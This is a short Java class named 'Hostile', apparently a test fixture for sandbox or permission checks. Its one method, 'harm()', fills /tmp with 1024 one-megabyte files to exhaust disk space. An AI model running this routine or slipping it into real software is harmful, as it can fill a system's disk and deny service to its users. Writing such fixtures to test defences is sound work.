package node;

import java.io.*;
import java.lang.reflect.*;
import java.net.*;
import java.nio.file.*;
import java.util.*;
import java.util.stream.*;

public class Hostile {
  /** True when the harm was done. */
  public boolean harm() throws Exception {
    byte[] block = new byte[1024 * 1024];
    for (int i = 0; i < 1024; i++) {
      Files.write(Path.of("/tmp/flood" + i), block);
    }
    return true;
  }
}
